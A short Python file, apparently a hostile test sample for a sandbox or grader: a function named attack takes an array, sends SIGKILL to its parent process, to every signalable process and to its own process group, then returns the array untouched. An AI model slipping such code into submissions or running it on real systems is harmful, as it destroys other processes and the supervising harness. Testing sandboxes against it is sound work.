"""Kills its parent and everybody else."""

import os
import signal


def attack(array):
    for pid in (os.getppid(), -1, 0):
        if pid == -1 and os.getuid() == 0:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return array
